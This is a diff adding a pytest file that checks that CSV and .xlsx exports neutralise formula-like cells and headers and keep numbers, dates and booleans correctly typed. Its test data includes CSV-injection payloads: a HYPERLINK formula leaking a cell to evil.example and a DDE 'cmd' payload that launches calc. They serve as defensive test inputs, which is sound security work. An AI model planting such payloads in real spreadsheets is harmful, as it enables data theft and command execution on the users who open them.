@@ -1,0 +1,134 @@
+"""Every export format (CSV English, CSV German, .xlsx) neutralises formula-like cells and headers
+the same way, and the .xlsx read back with openpyxl holds typed numbers and dates equal to the table."""
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date, datetime
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from data.export import is_plain_number, neutralise, sheet_name, to_csv_bytes, to_xlsx_bytes
+
+# (text in the table, what every export must hold) — hand-written, one line per attack or non-attack
+INJECTION = [
+    ("=1+1", "'=1+1"),
+    ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'),
+    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+    ("@SUM(1)", "'@SUM(1)"),
+    ("+49 123 456", "'+49 123 456"),
+    ("-x", "'-x"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("-inf", "'-inf"),
+    ("+nan", "'+nan"),
+    ("-1_000", "'-1_000"),
+    ("-Infinity", "'-Infinity"),
+    ("-1e999", "'-1e999"),  # digits, but not a finite number
+    ("-5", "-5"),  # a plain finite number written as text stays as it is
+    ("+1.25", "+1.25"),
+    ("-3e2", "-3e2"),
+    ("Nord", "Nord"),
+    ("Süd = gut", "Süd = gut"),  # '=' only matters at the start
+    ("", ""),
+]
+# headers come from user data too (a team's unit names the estimate column of the items download)
+HEADERS = [("=1+1", "'=1+1"), ("@SUM(1)", "'@SUM(1)"), ("-Infinity", "'-Infinity"), ("team", "team"),
+           ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")")]
+
+
+def injection_frame() -> pd.DataFrame:
+    texts = [text for text, _ in INJECTION]
+    return pd.DataFrame({
+        HEADERS[0][0]: texts,
+        HEADERS[1][0]: [float(i) - 3.5 for i in range(len(texts))],  # typed numbers, some negative
+        HEADERS[2][0]: pd.to_datetime([date(2026, 11, 1 + i) for i in range(len(texts))]),
+        HEADERS[3][0]: [i % 2 == 0 for i in range(len(texts))],
+        HEADERS[4][0]: list(range(-9, len(texts) - 9)),  # integers, negative ones are numbers not formulas
+    })
+
+
+def read_csv(data: bytes, german: bool) -> list[list[str]]:
+    assert data.startswith("\ufeff".encode())
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";" if german else ","))
+
+
+@pytest.mark.parametrize("german", [False, True], ids=["csv-en", "csv-de"])
+def test_csv_neutralises_every_formula_cell_and_header(german):
+    frame = injection_frame()
+    rows = read_csv(to_csv_bytes(frame, german=german), german)
+    assert rows[0] == [expected for _, expected in HEADERS]
+    assert [row[0] for row in rows[1:]] == [expected for _, expected in INJECTION]
+    # numbers stay numbers: -3.5 as '-3.5' (English) or '-3,5' (German), never with an apostrophe
+    assert rows[1][1] == ("-3,5" if german else "-3.5")
+    assert rows[1][4] == "-9"
+    assert rows[1][2] == "2026-11-01"
+    assert frame.columns[0] == "=1+1" and frame.iloc[0, 0] == "=1+1"  # the caller's frame is not touched
+
+
+def test_xlsx_has_no_formula_and_equals_the_table():
+    frame = injection_frame()
+    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes({"Items": frame})))
+    sheet = book["Items"]
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)  # no cell is a formula
+    rows = list(sheet.iter_rows(values_only=True))
+    assert list(rows[0]) == [expected for _, expected in HEADERS]
+    # XML reads a carriage return back as a line feed; the export writes it as one already
+    assert [row[0] or "" for row in rows[1:]] == [expected.replace("\r", "\n") for _, expected in INJECTION]
+    assert [row[1] for row in rows[1:]] == [float(i) - 3.5 for i in range(len(INJECTION))]
+    assert [row[2] for row in rows[1:]] == [datetime(2026, 11, 1 + i) for i in range(len(INJECTION))]
+    assert [row[3] for row in rows[1:]] == [i % 2 == 0 for i in range(len(INJECTION))]
+    assert [row[4] for row in rows[1:]] == list(range(-9, len(INJECTION) - 9))
+    # typed cells: numbers numeric, dates dates (not text), booleans booleans
+    second = sheet[2]
+    assert [c.data_type for c in second] == ["s", "n", "d", "b", "n"]
+    assert second[2].is_date and second[2].number_format == "YYYY-MM-DD"
+    assert sheet.freeze_panes == "A2"
+
+
+def test_xlsx_one_sheet_per_table_with_safe_names_human_headers_and_german_dates():
+    items = pd.DataFrame({"item_key": ["NN-1"], "estimate": [3.0], "done_on": pd.to_datetime(["2026-03-05"])})
+    sprints = pd.DataFrame({"sprint": ["S 1"], "committed": [20.0]})
+    tables = {"Items: Sprint [7] / a*b?": items, "x" * 40: sprints, "Items_ Sprint _7_ _ a_b_": sprints}
+    headers = {"item_key": "Schlüssel", "estimate": "Schätzung", "done_on": "Erledigt am"}
+    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(tables, headers=headers, german=True)))
+    # []:*?/\ replaced, at most 31 characters, a clash numbered
+    assert book.sheetnames == ["Items_ Sprint _7_ _ a_b_", "x" * 31, "Items_ Sprint _7_ _ a_b_ (2)"]
+    first = book.worksheets[0]
+    assert list(next(first.iter_rows(values_only=True))) == ["Schlüssel", "Schätzung", "Erledigt am"]
+    assert list(first.iter_rows(min_row=2, values_only=True)) == [("NN-1", 3, datetime(2026, 3, 5))]
+    assert first["C2"].number_format == "DD.MM.YYYY"
+    assert all(sheet.freeze_panes == "A2" for sheet in book.worksheets)
+
+
+def test_xlsx_keeps_missing_values_empty_and_strips_control_characters():
+    frame = pd.DataFrame({"a": ["ok\x00\x07", None], "b": [float("nan"), 2.0],
+                          "c": pd.to_datetime([None, "2026-01-02 10:30"])})
+    rows = list(openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes({"t": frame}))).active.iter_rows(values_only=True))
+    assert rows[1:] == [("ok", None, None), (None, 2, datetime(2026, 1, 2, 10, 30))]
+
+
+def test_infinite_numbers_are_text_in_every_format():
+    frame = pd.DataFrame({"v": [float("inf"), float("-inf"), 1.5]})
+    assert [r[0] for r in read_csv(to_csv_bytes(frame), False)[1:]] == ["inf", "'-inf", "1.5"]
+    assert [r[0] for r in read_csv(to_csv_bytes(frame, german=True), True)[1:]] == ["inf", "'-inf", "1,5"]
+    rows = list(openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes({"t": frame}))).active.iter_rows(values_only=True))
+    assert [r[0] for r in rows[1:]] == ["inf", "'-inf", 1.5]
+
+
+def test_plain_number_rule():
+    assert [is_plain_number(t) for t in ("-5", "+1.25", "-.5", "3e2", "-3E-2")] == [True] * 5
+    assert [is_plain_number(t) for t in ("-inf", "+nan", "-1_000", "-Infinity", "1e999", "+49 123", "-", "- 5")] \
+        == [False] * 8
+    assert neutralise(-5) == -5 and neutralise(2.5) == 2.5 and neutralise(None) is None
+
+
+def test_sheet_name_rules():
+    taken: set[str] = set()
+    assert sheet_name("", taken) == "Sheet"
+    assert sheet_name("'quoted'", taken) == "quoted"
+    assert sheet_name("SHEET", taken) == "SHEET (2)"  # Excel compares sheet names case-insensitively
+    assert len(sheet_name("y" * 100, taken)) == 31
